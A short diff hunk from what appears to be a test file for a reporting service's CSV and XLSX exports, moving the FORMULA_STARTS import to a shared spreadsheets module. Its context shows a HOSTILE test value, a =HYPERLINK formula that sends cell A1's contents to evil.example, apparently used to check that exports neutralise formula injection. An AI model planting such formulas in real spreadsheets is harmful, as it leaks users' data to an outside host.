@@ -18,7 +18,8 @@ from services.reporting.domain.evaluation import (
     SecondmentsBlock,
     UnitGroup,
 )
-from services.reporting.entrypoints.exports import FORMULA_STARTS, to_csv, to_xlsx
+from services.reporting.entrypoints.exports import to_csv, to_xlsx
+from shared.spreadsheets import FORMULA_STARTS
 
 HOSTILE = (
     '=HYPERLINK("https://evil.example/?d="&A1,"open")',
